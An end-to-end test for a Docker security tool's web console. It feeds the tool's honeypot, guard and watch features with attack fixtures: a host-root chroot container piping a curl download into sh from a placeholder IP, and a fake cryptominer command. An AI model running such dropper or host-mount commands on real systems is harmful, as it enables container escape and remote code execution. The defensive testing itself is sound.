// End to end in headless Chromium: the real `portcullis serve` CLI over a store filled by real runs of
// `portcullis scan` (twice), `audit`, `watch --once`, `guard` and `trap` (both driven with the docker CLI) against
// the lab, plus realistic records of the front ends written through the Store API; log in, see each page, filter the guard log, open a trap session,
// export its indicators. Saves a screenshot of each page (into docs/screenshots/ when PORTCULLIS_SCREENSHOTS=docs, so
// a test run does not rewrite the tree; else into its temporary directory).
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../../src/core/store/index.js';
import { dockerAsync, expose, labFromEnv, type Exposure } from '../../lab/index.js';
import { sampleWrites } from '../fleet/samples.js';

const ROOT = new URL('../../../', import.meta.url).pathname;
const lab = labFromEnv();
const dir = mkdtempSync(join(tmpdir(), 'pcl-serve-e2e-'));
const SHOTS = process.env.PORTCULLIS_SCREENSHOTS === 'docs' ? join(ROOT, 'docs/screenshots') : dir;
const STORE = join(dir, 'store.db');
const TOKEN = 'e2e-token-' + 'x'.repeat(24);
const MINER = `pcl-serve-miner-${process.pid}`;

/** Every long-running child, stopped in afterAll even when beforeAll failed half-way. */
const daemons: ChildProcess[] = [];

/** Start a long-running CLI command and resolve once its stderr matches `ready`. */
function daemon(args: string[], ready: RegExp): Promise<{ child: ChildProcess; match: RegExpMatchArray }> {
  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), ...args], { cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'] });
  daemons.push(child);
  return new Promise((resolve, reject) => {
    let err = '';
    child.stderr!.on('data', (c: Buffer) => {
      err += c.toString();
      const m = err.match(ready);
      if (m) resolve({ child, match: m });
    });
    child.on('exit', (code) => reject(new Error(`${args[0]} exited ${code}: ${err}`)));
  });
}

function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli/main.ts'), ...args],
      { cwd: ROOT, env: { ...process.env, PORTCULLIS_STORE: STORE } });
    let stdout = '', stderr = '';
    child.stdout.on('data', (c: Buffer) => { stdout += c.toString(); });
    child.stderr.on('data', (c: Buffer) => { stderr += c.toString(); });
    child.on('close', (code) => resolve({ code, stdout, stderr }));
    child.stdin.end();
  });
}

const exposures: Exposure[] = [];
let context: BrowserContext;
let page: Page;
let base = '';

beforeAll(async () => {
  // Realistic records of guard, watch, trap and audit through the Store API, then two real scans of the lab.
  const store = await openStore(STORE);
  for (const w of sampleWrites()) await w(store);
  await store.close();
  exposures.push(await expose('plain', lab.socketPath, '127.33.0.1', 2375));
  const first = await cli(['scan', '127.33.0.1-2', '--timeout', '1000', '-f', 'json']);
  expect(first.code, first.stderr).toBe(1);
  exposures.push(await expose('tls-any-client', lab.socketPath, '127.33.0.2', 2376));
  const second = await cli(['scan', '127.33.0.1-2', '--timeout', '1000', '-f', 'json']);
  expect(second.code, second.stderr).toBe(1);

  const audit = await cli(['audit', '-H', lab.dockerHost, '-f', 'json', '--store', STORE]);
  expect(audit.code, audit.stderr).toBe(0);
  // A real watch review of the lab engine: a running container argued like a miner, stopped by the response policy.
  const labEnv = { DOCKER_HOST: lab.dockerHost };
  await dockerAsync(labEnv, ['rm', '-f', MINER]);
  expect((await dockerAsync(labEnv, ['run', '-d', '--name', MINER, '--network', 'none', 'alpine:latest', 'sh', '-c',
    "printf '#!/bin/sh\\nsleep 300\\n' > /tmp/xmrig && chmod +x /tmp/xmrig && exec /tmp/xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level=1"])).code).toBe(0);
  const watch = await cli(['watch', '--once', '-H', lab.dockerHost, '--store', STORE, '--respond', 'critical=stop', '--format', 'json']);
  expect(watch.code, watch.stderr).toBe(1);
  // A real guard in front of the lab engine, writing its decisions to the store: one allowed `docker ps`,
  // one denied host-root bind.
  const g = join(dir, 'guard');
  expect((await cli(['guard', 'init', '--dir', g, '--san', '127.33.0.7', '--address', '127.33.0.7:2376', '--upstream', lab.dockerHost])).code).toBe(0);
  const cfg = join(g, 'guard.yaml');
  writeFileSync(cfg, readFileSync(cfg, 'utf8').replace('  file: audit.jsonl', `  file: audit.jsonl\n  store: ${STORE}`)
    .replace('127.0.0.1:9323', '127.33.0.7:9323'));
  expect((await cli(['guard', 'cert', 'e2e', '--role', 'ci-runner', '-c', cfg])).code).toBe(0);
  const guard = await daemon(['guard', '-c', cfg, '--no-events'], /listening on/);
  const viaGuard = { DOCKER_HOST: 'tcp://127.33.0.7:2376', DOCKER_TLS_VERIFY: '1', DOCKER_CERT_PATH: join(g, 'clients', 'e2e') };
  expect((await dockerAsync(viaGuard, ['ps'])).code).toBe(0);
  expect((await dockerAsync(viaGuard, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'true'])).stderr).toContain('denied');
  await new Promise<void>((resolve) => { guard.child.once('exit', () => resolve()); guard.child.kill('SIGTERM'); });

  // A real attack on the trap: the docker CLI pulls, creates a host-root container and runs a dropper.
  const trap = await daemon(['trap', '--listen', '127.33.0.5:2375', '--store', STORE, '--sensor', 'e2e-trap'], /posing as Docker/);
  await dockerAsync({ DOCKER_HOST: 'tcp://127.33.0.5:2375' }, ['run', '--rm', '-v', '/:/mnt', 'alpine:latest', 'chroot', '/mnt', 'sh', '-c',
    'curl -s http://198.51.100.8/y.sh | sh']);
  await new Promise<void>((resolve) => { trap.child.once('exit', () => resolve()); trap.child.kill('SIGTERM'); });

  writeFileSync(join(dir, 'token'), `${TOKEN}\n`, { mode: 0o600 });
  const started = await daemon(['serve', '--listen', '127.0.0.1:0', '--store', STORE, '--token-file', join(dir, 'token'), '--poll-ms', '500'],
    /console at (http:\/\/[^/\s]+)\//);
  base = started.match[1] ?? '';
  // A fresh profile directory (playwright passes it as --user-data-dir).
  context = await chromium.launchPersistentContext(join(dir, 'chromium-profile'), {
    executablePath: '/usr/bin/chromium', acceptDownloads: true, viewport: { width: 1360, height: 900 },
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  page = await context.newPage();
}, 300_000);

afterAll(async () => {
  await context?.close();
  await Promise.all(daemons.filter((c) => c.exitCode === null && c.signalCode === null)
    .map((c) => new Promise<void>((resolve) => { c.once('exit', () => resolve()); c.kill('SIGTERM'); })));
  await Promise.all(exposures.map((e) => e.close()));
  await dockerAsync({ DOCKER_HOST: lab.dockerHost }, ['rm', '-f', MINER]);
  rmSync(dir, { recursive: true, force: true });
});

/** Full-page screenshots, except for long pages (audit, guard log) where the first screen says it all. */
const shot = (name: string, fullPage = !['audit', 'guard'].includes(name)) => page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage });

describe('portcullis serve in Chromium', () => {
  it('asks for the token, rejects a wrong one, and logs in with the right one', async () => {
    await page.goto(`${base}/guard`);
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.fill('input[name=token]', 'wrong');
    await page.click('button[type=submit]');
    await expect(page.textContent('.error')).resolves.toContain('not right');
    await shot('login');
    await page.fill('input[name=token]', TOKEN);
    await page.click('button[type=submit]');
    await page.waitForURL(`${base}/guard`);
    const cookies = await page.context().cookies();
    expect(cookies.find((c) => c.name === 'pcl_session')).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
  });

  it('shows the overview populated from every front end', async () => {
    await page.goto(`${base}/`);
    await expect(page.textContent('#exposed')).resolves.toContain('127.33.0.1:2375');
    expect(await page.locator('#guard-chart svg rect').count()).toBeGreaterThan(2);
    await expect(page.textContent('#alerts')).resolves.toContain('Miner-like or kernel-thread-lookalike process');
    await expect(page.textContent('#sessions')).resolves.toContain('127.0.0.66');
    await shot('overview');
  });

  it('shows what changed between the two real scans', async () => {
    await page.goto(`${base}/scans`);
    const changes = await page.textContent('#scan-changes');
    expect(changes).toContain('127.33.0.2:2376');
    expect(changes).not.toContain('127.33.0.1:2375');
    await expect(page.textContent('#scan-results')).resolves.toContain('127.33.0.1:2375');
    await shot('scans');
  });

  it('filters the guard log by verdict and subject and shows the denial reasons', async () => {
    await page.goto(`${base}/guard`);
    await shot('guard');
    await page.selectOption('select[name=verdict]', 'deny');
    await page.fill('input[name=subject]', 'anonymous');
    await page.click('#guard-filters button[type=submit]');
    await page.waitForURL(/verdict=deny/);
    const rows = page.locator('tbody tr');
    expect(await rows.count()).toBe(1);
    await expect(rows.first().textContent()).resolves.toContain('client certificate missing');
    await shot('guard-filtered');
    // The real guard's denial, with its reason.
    await page.goto(`${base}/guard?verdict=deny&subject=cert%3Ae2e`);
    await expect(page.textContent('tbody')).resolves.toContain('host path / is outside the allowed prefixes');
    await page.goto(`${base}/guard?subject=cert%3Ae2e&route=container.list`);
    await expect(page.textContent('tbody')).resolves.toContain('allowed by role ci-runner');
  });

  it('shows audit findings with remediation and watch alerts with evidence and response', async () => {
    await page.goto(`${base}/audit`);
    await expect(page.textContent('main')).resolves.toContain('chmod 660 /var/run/docker.sock');
    // The real audit of the lab engine ran from this host.
    expect(await page.locator('section.run').count()).toBe(2);
    await shot('audit');
    await page.goto(`${base}/watch`);
    const text = await page.textContent('main');
    expect(text).toContain('xmrig -o pool.minexmr.example:4444');
    expect(text).toContain('container stopped');
    // The real watch run: its alert on the miner-argued container, with the rule and the stop carried out.
    expect(text).toContain(MINER);
    expect(text).toMatch(/PCL-MIN-00\d/);
    expect(text).toContain('stratum+tcp://pool.example.invalid:3333');
    await shot('watch');
  });

  it('opens a trap session as a timeline and exports its indicators', async () => {
    await page.goto(`${base}/trap`);
    await shot('trap');
    await page.click('a.open-session[href="/trap/sess-a"]');
    await page.waitForURL(`${base}/trap/sess-a`);
    await expect(page.textContent('#timeline')).resolves.toContain('chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh');
    await expect(page.textContent('#indicators')).resolves.toContain('198.51.100.7');
    await shot('trap-session');
    const formats: [string, (body: string) => void][] = [
      ['#export-stix', (b) => expect((JSON.parse(b) as { objects: { pattern?: string }[] }).objects.map((o) => o.pattern)).toContain("[ipv4-addr:value = '198.51.100.7']")],
      ['#export-misp', (b) => expect(b).toContain('"ip-src"')],
      ['#export-csv', (b) => expect(b).toContain('"url","http://198.51.100.7/x.sh"')],
    ];
    for (const [sel, check] of formats) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(sel)]);
      const path = await download.path();
      expect(existsSync(path)).toBe(true);
      check(readFileSync(path, 'utf8'));
    }
  });

  it('shows the real trap session the docker CLI made, with its dropper URL extracted', async () => {
    await page.goto(`${base}/trap`);
    await page.locator('tr', { hasText: 'e2e-trap' }).first().locator('a.open-session').click();
    await page.waitForURL(/\/trap\/[^/]+$/);
    await expect(page.textContent('#timeline')).resolves.toContain('curl -s http://198.51.100.8/y.sh');
    await expect(page.textContent('#indicators')).resolves.toContain('http://198.51.100.8/y.sh');
    await shot('trap-session-real');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    expect(readFileSync(await download.path(), 'utf8')).toContain('http://198.51.100.8/y.sh');
  });

  it('tells an open page about new events as they are stored (live updates)', async () => {
    // The stream's response headers come after it took its cursor: from then on, a stored event is news.
    await Promise.all([page.waitForResponse((r) => r.url().endsWith('/api/stream')), page.goto(`${base}/`)]);
    const store = await openStore(STORE);
    await store.appendEvents([{ eventid: 'trap.session.opened', timestamp: new Date(Date.now() + 60_000).toISOString(), source: 'portcullis',
      session: 'sess-live', src_ip: '127.0.0.99', sensor: 'e2e' }]);
    await store.close();
    await page.waitForSelector('#live[data-count]');
    await expect(page.textContent('#live')).resolves.toContain('trap.session.opened');
  });

  it('loads no asset from anywhere but the console itself', async () => {
    const origins = new Set<string>();
    page.on('request', (r) => origins.add(new URL(r.url()).origin));
    await page.goto(`${base}/`);
    await page.goto(`${base}/trap/sess-a`);
    expect([...origins]).toEqual([base]);
  });
});
